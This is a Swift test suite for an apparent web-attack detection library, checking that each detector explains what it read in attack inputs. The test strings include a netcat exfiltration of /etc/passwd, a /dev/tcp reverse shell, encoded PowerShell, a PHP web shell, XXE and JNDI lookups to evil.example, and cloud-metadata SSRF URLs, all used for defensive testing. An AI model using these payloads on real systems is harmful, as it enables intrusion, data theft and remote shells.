import Foundation
import PalisadeDetect
import Testing

/// `palisade scan --explain` detail lines: each family's `explain` shows the structure its detector
/// read (tokens, parsed host, declarations, resolved lookups…), and every corpus hit of a family
/// with an explain function gets detail lines.
@Suite struct ExplainTests {
    static func bytes(_ text: String) -> ArraySlice<UInt8> { Array(text.utf8)[...] }

    /// The lines of `lines` joined, for `contains` checks with a readable failure message.
    static func text(_ lines: [String]) -> String { lines.joined(separator: "\n") }

    @Test func rceShowsShellTokensAndTheKnownBinary() {
        let lines = RCEDetector.explain(Self.bytes("x;c''at /etc/passwd | nc 10.0.0.5 4444"))
        let text = Self.text(lines)
        #expect(lines.first?.hasPrefix("rce: rce.") == true, "\(text)")
        #expect(
            text.contains("command(x)=unknown separator(;) command(cat)=word+evasion arg(/etc/passwd)=path"), "\(text)")
        #expect(text.contains("pipe(|) command(nc)=network arg(10.0.0.5)=host arg(4444)=number"), "\(text)")
    }

    @Test func rceShowsSubstitutionsRedirectionsAndIFS() {
        let text = Self.text(RCEDetector.explain(Self.bytes("$(cat${IFS}/etc/shadow>/tmp/x)")))
        #expect(text.contains("substitution($() command(cat)=word+evasion+ifs arg(/etc/shadow)=path"), "\(text)")
        #expect(text.contains("redirection(>) arg(/tmp/x)=path end())"), "\(text)")
    }

    @Test func rceShowsPowerShellAndReverseShellReadings() {
        let ps = Self.text(
            RCEDetector.explain(Self.bytes("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")))
        #expect(ps.contains("powershell reading: rce.powershell"), "\(ps)")
        let reverse = Self.text(RCEDetector.explain(Self.bytes(";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")))
        #expect(reverse.contains("reverse-shell reading: rce.reverse_shell"), "\(reverse)")
        #expect(reverse.contains("command(bash)=shell arg(-i)=flag redirection(>&)"), "\(reverse)")
    }

    @Test func codeInjectionShowsTheSinkCall() {
        let text = Self.text(CodeInjectionDetector.explain(Self.bytes("Runtime.getRuntime().exec(\"id\")")))
        #expect(text.contains("calls: Runtime.getRuntime( → sink, Runtime.getRuntime().exec( → sink"), "\(text)")
        #expect(text.contains("sink calls: code_injection.java_runtime"), "\(text)")
        let marker = Self.text(CodeInjectionDetector.explain(Self.bytes("<?php system($_GET['c']); ?>")))
        #expect(marker.contains("calls: system( → sink (generic name)"), "\(marker)")
        #expect(marker.contains("code markers: code_injection.php_superglobal"), "\(marker)")
        let ssi = Self.text(CodeInjectionDetector.explain(Self.bytes("<!--#exec cmd=\"id\" -->")))
        #expect(ssi.contains("server directives: code_injection.ssi_exec 0.95"), "\(ssi)")
    }

    @Test func traversalShowsTheNormalizedPathSegmentsAndTarget() {
        let text = Self.text(TraversalDetector.explain(Self.bytes("..%252f..%252f..%252fetc%252fpasswd")))
        #expect(
            text.contains("normalized path: `../../../etc/passwd` (folded: encoded or look-alike separators)"),
            "\(text)")
        #expect(text.contains("dot segments (3): `../` `../` `../`"), "\(text)")
        #expect(text.contains("sensitive targets: `etc/passwd` (system file)"), "\(text)")
        let windows = Self.text(TraversalDetector.explain(Self.bytes("..\\..\\windows\\win.ini")))
        #expect(windows.contains("(folded: backslashes)"), "\(windows)")
        #expect(windows.contains("`windows/win.ini` (system file)"), "\(windows)")
    }

    @Test func ssrfShowsHostNotationAddressAndRange() {
        let text = Self.text(SSRFDetector.explain(Self.bytes("http://0x7f.1:8080/admin"), fieldName: "url"))
        #expect(text.hasPrefix("ssrf: ssrf.loopback_obfuscated"), "\(text)")
        #expect(
            text.contains(
                "url: scheme `http`; host `0x7f.1` → 127.0.0.1 written as 2-part hex/decimal (short form), range loopback (obfuscated)"
            ), "\(text)")
        let decimal = Self.text(
            SSRFDetector.explain(Self.bytes("http://2852039166/latest/meta-data/"), fieldName: "url"))
        #expect(
            decimal.contains("→ 169.254.169.254 written as single decimal number, range cloud metadata"), "\(decimal)")
        let gopher = Self.text(SSRFDetector.explain(Self.bytes("gopher://127.0.0.1:6379/_INFO"), fieldName: "url"))
        #expect(
            gopher.contains(
                "url: scheme `gopher` (makes the fetcher do something else than HTTP); host `127.0.0.1` → 127.0.0.1 written as dotted decimal, range loopback"
            ),
            "\(gopher)")
        let name = Self.text(SSRFDetector.explain(Self.bytes("http://metadata.google.internal/"), fieldName: "url"))
        #expect(name.contains("written as a name, range cloud metadata"), "\(name)")
    }

    @Test func ssrfShowsTheFilePathOfAFileURL() {
        let text = Self.text(SSRFDetector.explain(Self.bytes(#"<a href="file:///etc/passwd">"#), fieldName: "url"))
        #expect(
            text.contains("url: scheme `file` (makes the fetcher do something else than HTTP); path `///etc/passwd`"),
            "\(text)")
    }

    @Test func xxeShowsTheDeclarations() {
        let doc =
            #"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><foo>&xxe;</foo>"#
        let text = Self.text(XXEDetector.explain(Self.bytes(doc)))
        #expect(text.hasPrefix("xxe: xxe."), "\(text)")
        #expect(text.contains("doctype `foo`"), "\(text)")
        #expect(text.contains("entity general `xxe` SYSTEM `file:///etc/passwd` (local)"), "\(text)")
        #expect(text.contains("entity parameter `p` SYSTEM `http://evil.example/x.dtd` (remote)"), "\(text)")
        let bomb = Self.text(XXEDetector.explain(Self.bytes(#"<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]>"#)))
        #expect(bomb.contains("entity general `b` internal value `&a;&a;&a;` (3 references)"), "\(bomb)")
    }

    @Test func sstiShowsTheExpressionAndEngineSyntax() {
        let text = Self.text(SSTIDetector.explain(Self.bytes("{{ ''.__class__.__mro__[1].__subclasses__() }}")))
        #expect(text.contains("syntax jinja_twig"), "\(text)")
        #expect(text.contains("markers `__class__`"), "\(text)")
        #expect(text.contains("→ ssti."), "\(text)")
        let probe = Self.text(SSTIDetector.explain(Self.bytes("${7*7}")))
        #expect(
            probe.contains("expression `${7*7}` syntax expression_language body `7*7`; arithmetic probe"), "\(probe)")
    }

    @Test func nosqlShowsTheOperatorAndWhereItSits() {
        let key = NoSQLiDetector.explain(
            Self.bytes("$ne"), kind: .key, location: "body.json.password.$ne", fieldName: "$ne")
        #expect(key == ["operator `$ne` (query) in key `$ne`; applies to field `password` (a credential)"])
        let js = NoSQLiDetector.explain(
            Self.bytes("$where"), kind: .key, location: "body.json.$where", fieldName: "$where")
        #expect(js == ["operator `$where` (javascript) in key `$where`; server-side JavaScript, wherever it sits"])
        let body = Self.text(
            NoSQLiDetector.explain(
                Self.bytes("'; return this.password.match(/^a/) //"), kind: .text, location: "query.q", fieldName: "q"))
        #expect(body.contains("this.<field> comparison: `this.password.match("), "\(body)")
    }

    @Test func ldapShowsFilterTokens() {
        let text = Self.text(LDAPInjectionDetector.explain(Self.bytes("*)(uid=*))(|(uid=*")))
        #expect(text.hasPrefix("ldapi: ldapi.filter_breakout"), "\(text)")
        #expect(
            text.contains(
                "filter tokens: text(*) breakout()) assertion((uid=*))=known attribute+presence breakout()) or((|) assertion((uid=*)=known attribute+presence"
            ), "\(text)")
    }

    @Test func xpathShowsTokensAndTheTautology() {
        let text = Self.text(XPathInjectionDetector.explain(Self.bytes("' or '1'='1")))
        #expect(text.contains("xpath tokens: breakout(') name(or) string('1') op(=) open-string('1)"), "\(text)")
        #expect(text.contains("tautology: `1'='1`"), "\(text)")
        let function = Self.text(XPathInjectionDetector.explain(Self.bytes("' or count(/*)=1 or 'a'='b")))
        #expect(function.contains("xpath function: `count(/*)"), "\(function)")
        #expect(function.contains("name(count) ( path(/) op(*) ) op(=) number(1) name(or)"), "\(function)")
    }

    @Test func jndiShowsTheResolvedLookup() {
        let text = Self.text(JNDIDetector.explain(Self.bytes("${${lower:J}${::-n}di:ldap://evil.example/a}")))
        #expect(text.hasPrefix("jndi: jndi.obfuscated_lookup"), "\(text)")
        #expect(
            text.contains("; 2 nested, 2 obfuscation steps → jndi:ldap://evil.example/a (directory scheme)"), "\(text)")
    }

    @Test func crlfAndMailShowTheInjectedLines() {
        let crlf = Self.text(CRLFDetector.explain(Self.bytes("x%0d%0aSet-Cookie:%20admin=1"), fieldName: "next"))
        #expect(
            crlf.contains("break `%0d%0a` (encoded) then line `Set-Cookie:%20admin=1` — dangerous header `set-cookie`"),
            "\(crlf)"
        )
        let mail = Self.text(
            MailInjectionDetector.explain(Self.bytes("a@b.example\r\nBcc: victim@c.example"), fieldName: "email"))
        #expect(mail.contains("break `\\r\\n` then line `Bcc: victim@c.example` — recipient header `bcc`"), "\(mail)")
        let sendmail = Self.text(
            MailInjectionDetector.explain(Self.bytes("a@b.example -X/var/www/x.php"), fieldName: "email"))
        #expect(sendmail.contains("sendmail argument ` -X/var/www/x.php`"), "\(sendmail)")
    }

    @Test func deserializationShowsFormatAndGadgets() {
        let java = Self.text(DeserializationDetector.explain(Self.bytes("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ")))
        #expect(java.contains("format: Java serialization stream in Base64"), "\(java)")
        #expect(java.contains("recognised by `rO0AB"), "\(java)")
        let json = Self.text(
            DeserializationDetector.explain(
                Self.bytes(#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}"#)))
        #expect(json.contains("format: polymorphic JSON"), "\(json)")
        #expect(json.contains("gadget classes: `JdbcRowSetImpl` (strong)"), "\(json)")
    }

    @Test func prototypePollutionShowsTheKeyPath() {
        let lines = PrototypePollutionDetector.explain(Self.bytes("true"), location: "body.json.user.__proto__.isAdmin")
        #expect(
            lines == [
                "key path: `body` → `json` → `user` → `__proto__` → `isAdmin`; reaches Object.prototype through `__proto__` (component 4)"
            ])
        let path = Self.text(
            PrototypePollutionDetector.explain(Self.bytes("constructor.prototype.isAdmin"), location: "body.json.path"))
        #expect(
            path.contains("path value `constructor.prototype.isAdmin` (prototype_pollution.constructor_prototype)"),
            "\(path)")
    }

    @Test func openRedirectShowsTheTargetHost() {
        let text = Self.text(OpenRedirectDetector.explain(Self.bytes("/%5Cevil.example/login"), fieldName: "next"))
        #expect(text.hasPrefix("open_redirect: open_redirect.slash_confusion"), "\(text)")
        #expect(text.contains("field `next` names a redirect target"), "\(text)")
        #expect(
            text.contains("target host `evil.example` (scheme-relative; prefix `/\\` (backslashes read as slashes))"),
            "\(text)")
        let missing = Self.text(OpenRedirectDetector.explain(Self.bytes("https:evil.example"), fieldName: "return_to"))
        #expect(missing.contains("target host `evil.example` (scheme `https`, no slashes)"), "\(missing)")
    }

    @Test func scannerShowsTheFingerprint() {
        let agent = ScannerDetector.explain(
            Self.bytes("sqlmap/1.7.2#stable (https://sqlmap.org)"), location: "header.user-agent")
        #expect(agent == ["user-agent names the tool `sqlmap`"])
        let path = ScannerDetector.explain(Self.bytes("/.git/config"), location: "path")
        #expect(Self.text(path).contains("path probes a sensitive file: `"), "\(path)")
        let oast = ScannerDetector.explain(Self.bytes("http://x1.oast.fun/a"), location: "query.u")
        #expect(oast == ["out-of-band callback domain `oast.fun`"])
    }

    /// Families whose detectors read a language and explain it.
    static let explained: Set<AttackClass> = [
        .sqli, .xss, .rce, .codeInjection, .pathTraversal, .ssrf, .xxe, .ssti, .nosqli, .ldapi, .xpathi, .jndi, .crlf,
        .mailInjection, .deserialization, .prototypePollution, .openRedirect, .scanner,
    ]

    /// Every hit of an explained family on the attack corpus gets detail lines, and the value-level
    /// families' re-reading agrees that there is something (their first line is not `nothing`).
    @Test func everyCorpusHitIsExplained() {
        let names = ((try? FileManager.default.contentsOfDirectory(atPath: Corpus.directory.path)) ?? [])
            .filter { $0.hasSuffix(".txt") && !$0.hasPrefix("benign") }.sorted()
        #expect(names.count >= 18)
        let analyzer = Analyzer()
        var explainedHits = 0
        var unexplained: [String] = []
        for name in names {
            for line in Corpus.load(name) {
                let record = RequestCorpus.record(line)
                let (decoded, verdict) = analyzer.analyze(record)
                for hit in verdict.hits where Self.explained.contains(hit.attackClass) {
                    explainedHits += 1
                    // The detector's own lines: the scoring-context line is not an explanation.
                    let lines = HitExplanation.detectorLines(for: hit, in: decoded, record: record)
                    if lines.isEmpty || lines.first == "\(hit.attackClass.rawValue): nothing" {
                        unexplained.append(
                            "\(name): \(hit.attackClass.rawValue) \(hit.rule) at \(hit.location) \(lines)")
                    }
                }
            }
        }
        #expect(explainedHits > 2000)
        #expect(
            unexplained.isEmpty,
            "\(unexplained.count) hits without an explanation:\n\(unexplained.prefix(20).joined(separator: "\n"))")
    }

    /// Every explain function on every corpus value (attack and benign), cut and corrupted, as a
    /// slice of a larger buffer: no trap, bounded output.
    @Test func explainersSurviveHostileSlices() {
        let names = ((try? FileManager.default.contentsOfDirectory(atPath: Corpus.directory.path)) ?? [])
            .filter { $0.hasSuffix(".txt") }.sorted()
        var state: UInt64 = 0x9E37_79B9_7F4A_7C15
        func next() -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(truncatingIfNeeded: state >> 33)
        }
        var longest = 0
        for name in names {
            for line in Corpus.load(name) {
                var bytes = Array("pre".utf8) + Array(line.utf8)
                if next() % 3 == 0, bytes.count > 3 {
                    bytes[3 + next() % (bytes.count - 3)] = UInt8(truncatingIfNeeded: next())
                }
                let cut = bytes.count > 7 ? next() % 4 : 0
                let value = bytes[3..<(bytes.count - cut)]
                let all: [[String]] = [
                    RCEDetector.explain(value), CodeInjectionDetector.explain(value), TraversalDetector.explain(value),
                    SSRFDetector.explain(value, fieldName: "url"), XXEDetector.explain(value),
                    SSTIDetector.explain(value),
                    NoSQLiDetector.explain(value, kind: .key, location: "body.json.a", fieldName: "a"),
                    NoSQLiDetector.explain(value, kind: .text, location: "query.q", fieldName: "q"),
                    LDAPInjectionDetector.explain(value), XPathInjectionDetector.explain(value),
                    JNDIDetector.explain(value), CRLFDetector.explain(value), MailInjectionDetector.explain(value),
                    DeserializationDetector.explain(value), PrototypePollutionDetector.explain(value, location: "q"),
                    OpenRedirectDetector.explain(value, fieldName: "next"),
                    ScannerDetector.explain(value, location: "header.user-agent"),
                    ScannerDetector.explain(value, location: "path"),
                ]
                for lines in all { longest = max(longest, lines.reduce(0) { $0 + $1.utf8.count }) }
            }
        }
        #expect(longest > 0 && longest < 16_384)
    }
}
